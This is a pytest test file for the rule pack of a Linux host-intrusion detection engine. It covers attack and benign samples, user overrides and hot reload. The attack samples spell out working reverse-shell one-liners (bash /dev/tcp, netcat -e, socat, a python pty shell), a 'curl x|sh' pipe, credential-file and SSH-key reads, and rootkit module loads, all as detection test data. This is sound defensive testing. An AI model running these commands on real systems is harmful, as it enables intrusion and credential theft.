"""Rule files: the default pack against attack and benign samples, user overrides, hot reload."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import msgspec
import pytest

from heron.detect import RuleLoadError, RuleSet
from heron.detect.rules import DEFAULT_RULES, SEVERITIES
from heron.schema.events import (
    Ancestor,
    DnsQuery,
    Event,
    FileChange,
    FileMeta,
    NetFlow,
    NetListen,
    Process,
    ProcessExec,
    ProcessRef,
)

CONTAINER = "c" * 64
SSHD = Ancestor(900, "k-900", "/usr/sbin/sshd")
SYSTEMD = Ancestor(1, "k-1", "/usr/lib/systemd/systemd")
LOGIN_BASH = Ancestor(1000, "k-1000", "/usr/bin/bash")


def as_dict(ev: Event) -> dict[str, Any]:
    return msgspec.json.decode(msgspec.json.encode(ev))  # exactly what the platform stores


def exe(path: str, *argv: str, ancestors: list[Ancestor] | None = None, container: str | None = None,
        ppid: int = 1000, uid: int = 0) -> dict[str, Any]:
    return as_dict(ProcessExec(ts=1, process=Process(
        key="k-1", pid=4242, ppid=ppid, exe=path, comm=path.rsplit("/", 1)[-1][:15], uid=uid,
        argv=list(argv) or [path], container_id=container,
        ancestors=ancestors if ancestors is not None else [LOGIN_BASH, SSHD, SYSTEMD])))


def ref(path: str, parent: str | None = None, comm: str | None = None) -> ProcessRef:
    return ProcessRef(key="k-2", pid=77, exe=path, comm=comm or path.rsplit("/", 1)[-1][:15], uid=0,
                      parent_exe=parent)


def change(path: str, action: str = "modify", writer: str | None = "/usr/bin/bash", pm: str | None = None,
           old: FileMeta | None = None, new: FileMeta | None = None, is_dir: bool = False,
           comm: str | None = None) -> dict[str, Any]:
    if new is None and action != "delete":
        new = FileMeta(mode=0o100644, size=120)
    return as_dict(FileChange(ts=1, path=path, action=action, process=ref(writer, comm=comm) if writer else None,
                              attribution="process" if writer else "unknown", package_manager=pm, old=old, new=new,
                              is_dir=is_dir))


def flow(remote: str, port: int, proc: str = "/usr/bin/curl", domain: str | None = None,
         remote_class: str | None = "public", direction: str = "out") -> dict[str, Any]:
    return as_dict(NetFlow(ts=1, process=ref(proc), direction=direction, protocol="tcp", local_addr="10.0.0.5",
                           remote_addr=remote, remote_port=port, domain=domain, connections=1,
                           remote_class=remote_class))


def dns(query: str, proc: str = "/usr/bin/curl") -> dict[str, Any]:
    return as_dict(DnsQuery(ts=1, process=ref(proc), query=query, qtype="A", answers=["198.51.100.7"]))


# Every default rule with the events it must fire on.
POSITIVE: dict[str, list[dict[str, Any]]] = {
    "Reverse shell through /dev/tcp": [
        exe("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
        exe("/usr/bin/bash", "bash", "-c", "exec 5<>/dev/tcp/10.1.1.1/80; cat <&5 | sh >&5"),
    ],
    "Netcat with command execution": [
        exe("/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"),
        exe("/usr/bin/ncat", "ncat", "-lvnpe", "/bin/bash"),
        exe("/bin/busybox", "nc", "10.0.0.1", "4444", "-e", "sh"),
    ],
    "Socat shell": [exe("/usr/bin/socat", "socat", "TCP:10.0.0.1:4444", "EXEC:'bash -li',pty,stderr")],
    "Scripting one-liner reverse shell": [
        exe("/usr/bin/python3.11", "python3", "-c", "import socket,os,pty;s=socket.socket();"
            "s.connect(('10.0.0.1',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"),
        exe("/usr/bin/perl", "perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");'),
    ],
    "Shell spawned by a server process": [
        exe("/usr/bin/dash", "sh", "-c", "id", ancestors=[Ancestor(80, "k-80", "/usr/sbin/nginx"), SYSTEMD]),
        exe("/usr/bin/bash", "bash", ancestors=[Ancestor(81, "k-81", "/usr/sbin/php-fpm8.2"), SYSTEMD]),
        exe("/usr/bin/dash", "sh", "-c", "curl x|sh",
            ancestors=[Ancestor(82, "k-82", "/usr/lib/postgresql/15/bin/postgres"), SYSTEMD]),
    ],
    "Network connection from a shell": [flow("203.0.113.9", 4444, proc="/usr/bin/bash")],
    "Shell listening on a port": [as_dict(NetListen(ts=1, process=ref("/usr/bin/bash"), protocol="tcp",
                                                    addr="0.0.0.0", port=31337))],
    "Program run from a temporary directory": [exe("/tmp/.x/kworker", "kworker"), exe("/dev/shm/miner", "miner"),
                                               exe("/var/tmp/payload.sh", "/var/tmp/payload.sh")],
    "Credential file changed by an unexpected program": [
        change("/etc/shadow"), change("/etc/sudoers.d/99-backdoor", "create"),
        change("/etc/passwd", "modify", writer=None),  # unknown writer (inotify) still counts
    ],
    "Credential file read by an unexpected program": [
        change("/etc/shadow", "read", writer="/usr/bin/cat"),
        change("/root/.ssh/id_ed25519", "read", writer="/usr/bin/python3.11"),
    ],
    "SSH authorized_keys changed": [change("/root/.ssh/authorized_keys"),
                                    change("/home/alice/.ssh/authorized_keys", "create", writer="/usr/bin/python3.11")],
    "Cron job created or changed": [change("/etc/cron.d/update", "create"),
                                    change("/var/spool/cron/crontabs/root", "rename", writer="/usr/bin/crontab")],
    "Systemd unit created or changed": [change("/etc/systemd/system/backdoor.service", "create"),
                                        change("/root/.config/systemd/user/x.timer", "create")],
    "Shell history tampered with": [
        change("/root/.bash_history", "delete"),
        change("/home/alice/.bash_history", "modify", new=FileMeta(mode=0o100600, size=0)),
        change("/root/.bash_history", "create", new=FileMeta(mode=0o120777, size=9)),
    ],
    "Log file deleted or emptied": [change("/var/log/auth.log", "delete"),
                                    change("/var/log/wtmp", "modify", new=FileMeta(mode=0o100664, size=0))],
    "Setuid or setgid bit set": [change("/tmp/rootbash", "attrib", old=FileMeta(mode=0o100755),
                                        new=FileMeta(mode=0o104755, size=1000)),
                                 change("/usr/local/bin/x", "create", new=FileMeta(mode=0o102755, size=10))],
    "Write below a system binary directory": [change("/usr/bin/ls", "modify", writer="/usr/bin/cp"),
                                              change("/usr/lib/x86_64-linux-gnu/libpam.so.0", "rename")],
    "Kernel module loaded": [exe("/usr/bin/kmod", "insmod", "/tmp/rootkit.ko"),
                             exe("/usr/bin/kmod", "/sbin/modprobe", "diamorphine")],
    "Debugger attached to a process": [exe("/usr/bin/gdb", "gdb", "-p", "812"),
                                       exe("/usr/bin/strace", "strace", "--pid=812", "-e", "read")],
    "Connection to a crypto-mining pool": [flow("198.51.100.7", 10300, proc="/tmp/xmrig", domain="xmr.nanopool.org"),
                                           flow("198.51.100.8", 443, domain="gulf.moneroocean.stream")],
    "DNS lookup of a crypto-mining pool": [dns("pool.supportxmr.com"), dns("eu1.ethermine.org")],
    "Connection to a mining port": [flow("198.51.100.9", 14444, proc="/usr/bin/kdevtmpfsi"),
                                    flow("198.51.100.9", 3333, proc="/usr/bin/x", remote_class=None)],
    "Package manager run in a container": [
        exe("/usr/bin/apt-get", "apt-get", "install", "-y", "nmap", container=CONTAINER,
            ancestors=[Ancestor(5, "k-5", "/bin/bash")]),
        exe("/usr/local/bin/pip3.12", "pip", "install", "x", container=CONTAINER, ancestors=[]),
        exe("/sbin/apk", "apk", "add", "socat", container=CONTAINER, ancestors=[]),
    ],
}

BENIGN: list[dict[str, Any]] = [
    change("/etc/shadow", "read", writer="/usr/sbin/unix_chkpwd"),  # PAM checking a password
    change("/etc/shadow", "read", writer="/usr/sbin/sshd"),
    change("/root/.ssh/id_ed25519", "read", writer="/usr/bin/ssh"),
    change("/etc/shadow", "read", writer="/usr/bin/perl", pm="dpkg"),  # a maintainer script
    exe("/usr/bin/ls", "ls", "-la"),
    exe("/usr/bin/apt-get", "apt-get", "install", "-y", "htop"),  # on the host
    exe("/usr/bin/dpkg", "dpkg", "--unpack", "htop.deb", ancestors=[Ancestor(5, "k-5", "/usr/bin/apt-get")]),
    exe("/usr/sbin/sshd", "sshd: alice [priv]", ancestors=[SSHD, SYSTEMD]),
    exe("/usr/bin/bash", "-bash", ancestors=[SSHD, SYSTEMD]),
    exe("/usr/bin/curl", "curl", "https://example.com/"),
    exe("/usr/bin/bash", "bash", "-c", "timeout 1 bash -c '</dev/tcp/127.0.0.1/8080'"),  # a port check
    exe("/usr/bin/python3.11", "python3", "-c", "import socket; print(socket.gethostname())"),
    exe("/usr/bin/kmod", "lsmod"),
    exe("/usr/bin/kmod", "/sbin/modprobe", "-q", "--", "net-pf-10", ppid=2, ancestors=[]),  # kernel auto-load
    exe("/usr/bin/kmod", "modprobe", "-r", "dummy"),
    exe("/usr/bin/strace", "strace", "-f", "ls"),
    exe("/usr/bin/dash", "/bin/sh", "-c", "run-parts /etc/cron.daily", ancestors=[Ancestor(70, "k", "/usr/sbin/cron")]),
    exe("/usr/bin/python3.11", "python3", "/usr/bin/pip3", "install", "x"),  # pip on the host
    exe("/usr/bin/dpkg", "dpkg", "-i", "x.deb", container=CONTAINER,
        ancestors=[Ancestor(6, "k-6", "/usr/bin/apt-get")]),  # dpkg under apt: apt was the alert
    exe("/tmp/go-build123/b001/exe/main", "main"),
    flow("93.184.216.34", 443, domain="example.com"),
    flow("127.0.0.1", 4444, proc="/usr/bin/bash", remote_class="loopback"),  # port check on loopback
    flow("192.168.1.10", 5555, proc="/usr/bin/adb", remote_class="private"),
    flow("10.0.0.1", 3333, proc="/usr/bin/node", remote_class=None),
    flow("203.0.113.5", 22, proc="/usr/sbin/sshd", direction="in"),
    dns("example.com"), dns("0.debian.pool.ntp.org", proc="/usr/sbin/chronyd"),
    as_dict(NetListen(ts=1, process=ref("/usr/sbin/sshd"), protocol="tcp", addr="0.0.0.0", port=22)),
    change("/usr/bin/htop", "create", writer="/usr/bin/dpkg", pm="dpkg"),
    change("/usr/lib/x86_64-linux-gnu/libfoo.so.1", "rename", writer="/usr/bin/dpkg", pm="dpkg"),
    change("/usr/lib/python3/dist-packages/foo/__pycache__/x.cpython-311.pyc", "create",
           writer="/usr/bin/python3.11"),
    change("/etc/shadow", "rename", writer="/usr/bin/passwd"),
    change("/etc/passwd", "modify", writer="/usr/sbin/useradd"),
    change("/etc/sudoers.d/README", "create", writer="/usr/bin/dpkg", pm="dpkg"),
    change("/home/alice/.ssh/authorized_keys", "modify", writer="/usr/bin/python3.11", comm="cloud-init"),
    change("/etc/cron.daily/apt-compat", "create", writer="/usr/bin/dpkg", pm="dpkg"),
    change("/etc/systemd/system/multi-user.target.wants/nginx.service", "create", writer="/usr/bin/systemctl"),
    change("/home/alice/.bash_history", "modify", new=FileMeta(mode=0o100600, size=5000)),
    change("/var/log/syslog.1", "rename", writer="/usr/sbin/logrotate"),
    change("/var/log/syslog", "modify", writer="/usr/sbin/logrotate", new=FileMeta(mode=0o100640, size=0)),
    change("/var/log/nginx/access.log", "modify", writer="/usr/sbin/nginx"),
    change("/var/log/sysstat/sa01", "delete", writer="/usr/bin/find"),
    change("/usr/bin/sudo", "attrib", writer="/usr/bin/dpkg", pm="dpkg", old=FileMeta(mode=0o100755),
           new=FileMeta(mode=0o104755, size=200)),
    change("/srv/shared", "attrib", old=FileMeta(mode=0o40775), new=FileMeta(mode=0o42775), is_dir=True),
    change("/home/alice/notes.txt", "modify"),
]


@pytest.fixture(scope="module")
def default() -> RuleSet:
    return RuleSet()


def test_every_default_rule_compiles_and_is_described(default: RuleSet) -> None:
    names = [r.name for r in default.rules]
    assert len(names) == len(set(names)) >= 20
    for rule in default.rules:
        assert rule.enabled and rule.severity in SEVERITIES and rule.desc
        assert rule.match.mitre, f"{rule.name} has no MITRE technique"
        assert rule.condition.event_types, f"{rule.name} is not indexed by event type"
    assert set(POSITIVE) == set(names), "each default rule needs positive samples"


@pytest.mark.parametrize("name", sorted(POSITIVE))
def test_default_rule_fires_on_its_samples(default: RuleSet, name: str) -> None:
    for ev in POSITIVE[name]:
        fired = [m.rule for m in default.evaluate(ev)]
        assert name in fired, (ev, fired)


def test_no_default_rule_fires_on_benign_activity(default: RuleSet) -> None:
    noisy = {i: [m.rule for m in default.evaluate(ev)] for i, ev in enumerate(BENIGN)}
    assert not {i: r for i, r in noisy.items() if r}, [(BENIGN[i], r) for i, r in noisy.items() if r]
    assert default.eval_errors == 0


def test_samples_round_trip_through_the_schema() -> None:
    from heron.schema.events import from_json
    for ev in [*BENIGN, *(e for evs in POSITIVE.values() for e in evs)]:
        from_json(msgspec.json.encode(ev))  # samples are real events


def test_evaluate_throughput(default: RuleSet) -> None:
    events = BENIGN * 100
    start = time.perf_counter()
    for ev in events:
        default.evaluate(ev)
    per_event = (time.perf_counter() - start) / len(events)
    assert per_event < 200e-6, f"{per_event * 1e6:.1f} us per event"


# ---- user files -----------------------------------------------------------------------------------


def write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def test_user_rules_override_and_append(tmp_path: Path) -> None:
    user = write(tmp_path / "local.yaml", """
- list: server_binaries
  items: [gunicorn]
  override:
    items: append
- macro: user_known_tmp_executables
  condition: or process.exe startswith /tmp/ci/
  override:
    condition: append
- rule: Program run from a temporary directory
  severity: low
  tags: [T1204.002, local]
  override:
    severity: replace
    tags: replace
- rule: Debugger attached to a process
  enabled: false
- rule: Cron job created or changed
  condition: and not process.name = crontab
  append: true
- rule: Python in a container
  desc: local rule
  condition: type = process.exec and process.container_id exists and process.name glob python*
  severity: info
""")
    rs = RuleSet([user])
    by_name = {r.name: r for r in rs.rules}
    fired = [m.rule for m in rs.evaluate(exe("/usr/bin/dash", "sh", ancestors=[Ancestor(2, "k", "/usr/bin/gunicorn")]))]
    assert fired == ["Shell spawned by a server process"]
    assert not rs.evaluate(exe("/tmp/ci/build/test", "test"))
    matches = rs.evaluate(exe("/tmp/x", "x"))
    assert [(m.rule, m.severity, m.tags) for m in matches] == [
        ("Program run from a temporary directory", "low", ("T1204.002", "local"))]
    assert matches[0].mitre == ("T1204.002",)
    assert not by_name["Debugger attached to a process"].enabled
    assert not rs.evaluate(exe("/usr/bin/gdb", "gdb", "-p", "1"))
    assert not rs.evaluate(change("/var/spool/cron/crontabs/root", "rename", writer="/usr/bin/crontab"))
    assert rs.evaluate(change("/etc/cron.d/x", "create"))
    assert [m.rule for m in rs.evaluate(exe("/usr/bin/python3", "python3", container=CONTAINER))] == [
        "Python in a container"]


def test_user_directory_and_no_default(tmp_path: Path) -> None:
    d = tmp_path / "rules.d"
    d.mkdir()
    write(d / "b.yml", "- rule: B\n  desc: b\n  condition: a_macro\n  severity: low\n")
    write(d / "a.yaml", "- macro: a_macro\n  condition: type = net.dns\n")
    write(d / "ignored.txt", "not yaml: [")
    rs = RuleSet([d], include_default=False)
    assert [r.name for r in rs.rules] == ["B"]
    assert [m.rule for m in rs.evaluate(dns("example.com"))] == ["B"]


@pytest.mark.parametrize(("text", "words"), [
    ("- rule: X\n  desc: d\n  condition: proc.name = x\n  severity: high\n",
     ["bad.yaml:1", "rule 'X'", "line 1, column 1", "unknown field 'proc.name'"]),
    ("- list: a\n  items: [x]\n- rule: X\n  desc: d\n  severity: high\n  condition: |\n    type = net.flow\n"
     "    and process.name in (b c)\n", ["bad.yaml:3", "line 2, column 24", "expected ',' or ')'"]),
    ("- rule: X\n  desc: d\n  condition: type = net.flow\n  severity: urgent\n", ["bad.yaml:1", "severity must be"]),
    ("- rule: X\n  desc: d\n  conditon: type = net.flow\n  severity: low\n", ["unknown key(s) conditon"]),
    ("- rule: X\n  desc: d\n  severity: low\n", ["missing condition"]),
    ("- rule: Nope\n  condition: and x\n  append: true\n", ["not defined in an earlier file"]),
    ("- rule: X\n  desc: d\n  condition: type = net.flow\n  severity: low\n  enabled: maybe\n", ["enabled must be"]),
    ("- macro: m\n  condition: m2\n- macro: m2\n  condition: m\n", ["refers to itself"]),
    ("- list: bad name\n  items: [a]\n", ["letters, digits"]),
    ("rule: X\n", ["YAML list"]),
    ("- rule: X\n  desc: [unclosed\n", ["bad.yaml:", "YAML error"]),
    ("- &a list: x\n  items: [a]\n- list: y\n  items: *a\n", ["aliases are not allowed"]),
    ("- macro: m\n  condition: type = net.flow\n- list: m\n  items: [x]\n", ["both a macro and a list"]),
])
def test_bad_files_are_refused_with_line_and_reason(tmp_path: Path, text: str, words: list[str]) -> None:
    bad = write(tmp_path / "bad.yaml", text)
    with pytest.raises(RuleLoadError) as info:
        RuleSet([bad])
    for w in words:
        assert w in str(info.value), str(info.value)


def test_missing_and_oversized_files(tmp_path: Path) -> None:
    with pytest.raises(RuleLoadError, match="cannot read"):
        RuleSet([tmp_path / "absent.yaml"])
    big = tmp_path / "big.yaml"
    big.write_bytes(b"#" * (5 * 1024 * 1024))
    with pytest.raises(RuleLoadError, match="larger than"):
        RuleSet([big])


def test_hot_reload_keeps_last_good_set(tmp_path: Path) -> None:
    path = write(tmp_path / "local.yaml", "- rule: Local\n  desc: d\n  condition: type = net.dns\n  severity: low\n")
    rs = RuleSet([path])
    assert rs.reload_if_changed() is False  # nothing changed
    assert "Local" in [m.rule for m in rs.evaluate(dns("example.com"))]

    def rewrite(text: str) -> None:
        path.write_text(text)
        st = path.stat()
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 1_000_000_000))  # a distinct mtime, whatever the fs

    rewrite("- rule: Local\n  desc: d\n  condition: type = net.dns and query = x.org\n  severity: low\n")
    assert rs.reload_if_changed() is True and rs.last_error is None and rs.reloads == 1
    assert "Local" not in [m.rule for m in rs.evaluate(dns("example.com"))]
    assert "Local" in [m.rule for m in rs.evaluate(dns("x.org"))]

    rewrite("- rule: Local\n  desc: d\n  condition: type = net.dns and quer = y.org\n  severity: low\n")
    assert rs.reload_if_changed() is False
    assert rs.last_error is not None and "local.yaml:1" in rs.last_error and "unknown field 'quer'" in rs.last_error
    assert "Local" in [m.rule for m in rs.evaluate(dns("x.org"))]  # the last good set is active
    assert rs.reload_if_changed() is False  # the bad file is not retried until it changes again

    path.unlink()
    assert rs.reload_if_changed() is False and "cannot read" in (rs.last_error or "")
    rewrite("- rule: Other\n  desc: d\n  condition: type = net.dns\n  severity: low\n")
    assert rs.reload_if_changed() is True and rs.last_error is None
    assert [r.name for r in rs.rules if r.name in ("Local", "Other")] == ["Other"]


def test_hot_reload_sees_new_files_in_a_directory(tmp_path: Path) -> None:
    rs = RuleSet([tmp_path], include_default=False)
    assert rs.rules == []
    write(tmp_path / "new.yaml", "- rule: N\n  desc: d\n  condition: type = net.dns\n  severity: low\n")
    os.utime(tmp_path, ns=(0, time.time_ns() + 2_000_000_000))
    assert rs.reload_if_changed() is True
    assert [r.name for r in rs.rules] == ["N"]


def test_default_pack_is_a_package_file() -> None:
    assert DEFAULT_RULES.name == "default_rules.yaml" and DEFAULT_RULES.is_file()
